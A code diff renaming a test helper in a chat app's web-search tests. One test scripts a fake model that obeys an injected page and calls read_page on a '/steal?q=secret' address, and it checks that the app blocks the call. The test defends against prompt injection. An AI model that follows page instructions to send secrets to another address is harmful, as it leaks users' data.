@@ -1,7 +1,7 @@
 import { afterAll, expect, test } from 'vitest'
 import type { FakeRequest } from '../../../providers/model/fake.ts'
 import { startFakeWeb } from '../../../providers/web-search/fake.ts'
-import { ask, aTalker, chatApp, recordText } from '../../chat/testing/chat-app.ts'
+import { askQuestion, aTalker, chatApp, recordText } from '../../chat/testing/chat-app.ts'
 
 const web = await startFakeWeb([
   {
@@ -23,8 +23,8 @@ test('a model searches where the person switched the web on, and cites what it r
     results(request).length === 0
       ? [{ tool: 'search_web', input: { query: 'kopi gayo' } }]
       : [{ text: 'Kopi Gayo tumbuh di Aceh [1].' }]
-  const { record } = (await ask(server, talker, { question: 'Di mana kopi Gayo?', is_search_internet: 'true' })).body
-    .data
+  const { record } = (await askQuestion(server, talker, { question: 'Di mana kopi Gayo?', is_search_internet: 'true' }))
+    .body.data
   expect(record.answer.parts.map(({ type }) => type)).toEqual(['tool-search_web', 'source-url', 'text'])
   expect(recordText(record)).toContain('[1]')
   expect(results(server.model.requests.at(-1)!)[0]).toContain('Kopi Gayo tumbuh di Aceh')
@@ -39,13 +39,13 @@ test('a model that obeys a page and reads another address is stopped: only what 
     if (seen.length === 1) return [{ tool: 'read_page', input: { url: `${web.url}/steal?q=secret`, query: 'x' } }]
     return [{ text: 'Done.' }]
   }
-  await ask(server, talker, { question: 'Baca ini', links: `["${link}"]` })
+  await askQuestion(server, talker, { question: 'Baca ini', links: `["${link}"]` })
   expect(web.requests.slice(before).map(({ url }) => url)).toEqual(['/wiki/Kopi'])
   expect(results(server.model.requests.at(-1)!)[1]).toContain('Only the addresses that the person named')
 })
 
 test('without the switch a model has no tool for the web', async () => {
   server.model.reply = () => [{ text: 'No.' }]
-  await ask(server, talker, { question: 'Hi there model' })
+  await askQuestion(server, talker, { question: 'Hi there model' })
   expect(server.model.requests.at(-1)!.tools ?? []).toEqual([])
 })
